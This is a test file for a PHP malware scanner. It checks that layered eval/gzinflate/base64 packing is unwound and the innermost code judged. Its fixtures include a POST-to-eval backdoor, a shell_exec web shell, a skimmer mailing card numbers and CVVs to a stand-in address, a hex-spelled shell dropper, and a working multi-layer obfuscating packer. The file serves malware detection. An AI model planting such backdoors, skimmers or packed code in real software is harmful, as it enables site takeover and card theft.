// Packed PHP is unpacked layer by layer (decoded here, never run) and judged by what the
// innermost code does: a vendor's licence check packed a dozen layers deep is not a finding,
// a request-to-eval backdoor packed the same way is. rawurldecode decodes bytes, as PHP does.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import { analysePhp } from '../../../src/integrity/scan/php-analysis.ts';
import { loadCodeRules } from '../../../src/integrity/scan/rules.ts';
import { scanContent } from '../../../src/integrity/scan/scanner.ts';
import { reportAt } from '../../../src/integrity/scan/signals.ts';

/** Every byte percent-encoded, as PHP's rawurlencode does for binary. */
const rawurlencode = (b: Buffer) => [...b].map((x) => `%${x.toString(16).padStart(2, '0').toUpperCase()}`).join('');

/** `code` wrapped in `layers` evals, alternating gzinflate(rawurldecode(…)) and base64_decode(…). */
function pack(code: string, layers: number): string {
  let c = code;
  for (let i = 0; i < layers; i++)
    c =
      i % 2 === 0
        ? `eval(gzinflate(rawurldecode('${rawurlencode(deflateRawSync(Buffer.from(c, 'latin1')))}')));`
        : `eval(base64_decode('${Buffer.from(c, 'latin1').toString('base64')}'));`;
  return `<?php\n${c}\n`;
}

const score = (text: string) => analysePhp(text).signals.reduce((s, x) => s + x.weight, 0);

test('a licence check packed twelve layers deep is read to the bottom and not reported', () => {
  const licence =
    "class Vendor_Licence { public function isValid($key) { return hash_hmac('sha256', $_SERVER['HTTP_HOST'], 'v') === $key; } }";
  assert.ok(score(pack(licence, 12)) < reportAt, JSON.stringify(analysePhp(pack(licence, 12)).signals));
});

test('a backdoor packed twelve layers deep is judged by what it does', () => {
  const shell = "if (isset($_POST['k'])) { eval(stripslashes($_POST['k'])); }";
  const ids = analysePhp(pack(shell, 12)).signals.map((s) => s.id);
  assert.ok(ids.includes('php-request-to-eval'), ids.join(', '));
});

test('rawurldecode decodes percent-escaped bytes one by one (binary for gzinflate)', () => {
  // %8B alone is not UTF-8: decoded as text it would fail, as bytes it is one byte.
  const shell = "if (isset($_POST['k'])) { eval($_POST['k']); }";
  const text = `<?php eval(gzinflate(rawurldecode('${rawurlencode(deflateRawSync(Buffer.from(shell)))}')));`;
  assert.ok(analysePhp(text).signals.some((s) => s.id === 'php-request-to-eval'));
});

const rules = loadCodeRules();
const scan = (text: string) =>
  scanContent(text, { path: 'app/code/local/V/L.php', rel: 'app/code/local/V/L.php' }, rules);
const ids = (text: string) => scan(text).map((f) => f.rule);

test('the packing rules yield to what the unpacked code does, where every layer was read through', () => {
  const licence =
    "class Vendor_Licence { public function isValid($key) { return hash_hmac('sha256', $_SERVER['HTTP_HOST'], 'v') === $key; } }";
  // The rules see eval(gzinflate(rawurldecode(…))) and eval(base64_decode(…)); the code is a licence check.
  assert.ok(ids(pack(licence, 2)).length === 0, ids(pack(licence, 2)).join(', '));
  // Packed the same way, a backdoor is reported: the rules read the unpacked code too.
  const found = scan(pack("echo shell_exec($_GET['c']);", 2));
  assert.ok(
    found.some((f) => f.rule === 'php-exec-request' && f.match.includes('unpacked')),
    JSON.stringify(found),
  );
  // A layer that runs code it cannot fold (the packer's next stage, unread) leaves the rules standing.
  const unread = ids(pack('eval(gzinflate(base64_decode($GLOBALS[$k])));', 2));
  assert.ok(unread.includes('php-eval-decoded'), unread.join(', '));
});

test('a layer cut at the fold bound is not read through: the packing rules stand', () => {
  const body = `?><?php echo 1; /* ${'x'.repeat(120_000)} */`;
  const line = (b: string) =>
    `<?php $b = '${Buffer.from(b, 'latin1').toString('base64')}'; eval('?>' . base64_decode($b));\n`;
  // Whole (under the bound), the file is read through; cut, the packed blob is reported as before.
  assert.deepEqual(ids(line(body.slice(0, 60_000))), []);
  assert.ok(ids(line(body)).includes('php-encoded-blob-eval'), ids(line(body)).join(', '));
});

test("an unpacked layer reads its loader's variables: card data built outside, mailed inside", () => {
  const loader = (inner: string) => `<?php
class Gateway { public function send($payment) {
  $message = 'CcNumber: ' . trim($payment->getCcNumber()) . ' Cvv: ' . trim($payment->getCcCid());
  $x = @eval(gzinflate(base64_decode('${deflateRawSync(Buffer.from(inner)).toString('base64')}')));
} }
`;
  const found = ids(loader("mail('drop@example.invalid', 'order', $message);"));
  assert.ok(found.includes('php-card-data-sent-out'), found.join(', '));
  assert.deepEqual(ids(loader("error_log('order sent');")), []);
});

test('a variable reassigned layer after layer is read at each eval, and deep packers are read to the end', () => {
  // Each round: `$_V` holds the next round, which the layer below decodes in place and runs.
  const swap = (s: string, from: string, to: string) => [...s].map((c) => to[from.indexOf(c)] ?? c).join('');
  const round = "$_V=gzinflate(base64_decode($_V));$_V=strtr($_V,'123456vladi','vladi123456');eval($_V);";
  const vpack = (code: string, rounds: number) => {
    let c = code;
    for (let i = 0; i < rounds; i++) {
      const v = deflateRawSync(Buffer.from(swap(c, 'vladi123456', '123456vladi'), 'latin1')).toString('base64');
      c = `$_V='${v}';eval(base64_decode('${Buffer.from(round).toString('base64')}'));`;
    }
    return `<?php\n${c}\n`;
  };
  const licence = "class Vendor_Form { public function label($a) { return sprintf('%s', $a); } }";
  // Ten rounds are thirty layers: the whole program is read, and only its shape was a reason.
  assert.deepEqual(ids(vpack(licence, 10)), []);
  const found = ids(vpack("echo shell_exec($_GET['c']);", 10));
  assert.ok(found.includes('php-exec-request'), found.join(', '));
});

test("a decoder a layer defines is folded where the next layer calls it; the unpacked code's own look is no reason", () => {
  const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');
  const hex = (s: string) => [...s].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
  const decoder = `function d7($s) { $a = "${hex('base64_decode')}"; $b = "${hex('gzinflate')}"; return $b($a($s)); }`;
  const body = (code: string) =>
    `<?php\neval(base64_decode('${b64(decoder)}'));\neval(base64_decode('${b64(`$a = "x"; eval(d7("${deflateRawSync(Buffer.from(code)).toString('base64')}"));`)}'));\n`;
  const licence = "class Vendor_Check { public function ok($k) { return md5($k) === 'x'; } }";
  // Read to the end through the file's own decoder: hex-spelled names inside are its packing, not a finding.
  assert.deepEqual(scan(body(licence)), []);
  const found = ids(body("echo shell_exec($_GET['c']);"));
  assert.ok(found.includes('php-exec-request'), found.join(', '));
});

test('a dropper that writes a shell it spells in hex (pack H*, hex2bin) is read, with no request or eval of its own', () => {
  const hex = (s: string) => Buffer.from(s, 'latin1').toString('hex');
  // Defanged: the written file is a one-line eval of a posted field, behind a short tag and @.
  const shell = "<?@eval($_POST['k'])?>";
  for (const decode of [(h: string) => `pack("H*","${h}")`, (h: string) => `hex2bin('${h}')`]) {
    const code = `<?php\nfputs(fopen(${decode(hex('k.php'))},"w"),${decode(hex(shell))});\n`;
    const ids = analysePhp(code).signals.map((s) => s.id);
    assert.ok(ids.includes('php-writes-malicious-code'), ids.join(', '));
  }
  // A harmless file written the same way is nothing.
  const plain = `<?php\nfputs(fopen(pack("H*","${hex('n.txt')}"),"w"),pack("H*","${hex('hello')}"));\n`;
  assert.deepEqual(analysePhp(plain).signals, []);
});
